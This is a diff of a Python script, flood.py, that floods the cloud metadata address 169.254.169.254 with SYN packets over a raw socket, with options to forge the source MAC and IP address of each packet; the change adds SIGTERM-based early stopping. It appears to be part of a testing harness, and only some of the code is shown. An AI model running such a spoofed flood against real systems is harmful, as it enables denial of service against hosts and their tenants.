@@ -1,16 +1,18 @@
 """``flood.py DEVICE MAC IP RATE SECONDS KIND``: a flood of SYNs to the metadata service.
 
 KIND is ``forged``, with another source MAC and address in each SYN, ``forged6``, which is the same
-over IPv6, or ``own``, with the given MAC
-and address and another source port in each. The program prints the number of sent SYNs. It uses a
-raw socket and the standard library.
+over IPv6, or ``own``, with the given MAC and address and another source port in each. It lasts
+SECONDS, or until SIGTERM and the SYNs of one second. The program prints the number of sent SYNs. It
+uses a raw socket and the standard library.
 """
 
 from __future__ import annotations
 
+import signal
 import socket
 import struct
 import sys
+import threading
 import time
 
 DIFFERENT = 0x8000
@@ -79,12 +81,14 @@ def main() -> None:
     target = socket.inet_aton("169.254.169.254")
     ready = frames(kind, bytes.fromhex(mac.replace(":", "")), socket.inet_aton(ip), target)
     per_burst, sent = max(1, int(rate) // BURSTS), 0
+    enough = threading.Event()
+    signal.signal(signal.SIGTERM, lambda *_: enough.set())
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
         link.bind((device, 0))
         sys.stdout.write("begun\n")
         sys.stdout.flush()
         began = due = time.monotonic()
-        while due - began < float(seconds):
+        while due - began < float(seconds) and not (enough.is_set() and sent >= int(rate)):
             for _ in range(per_burst):
                 try:
                     link.send(ready[sent % len(ready)])
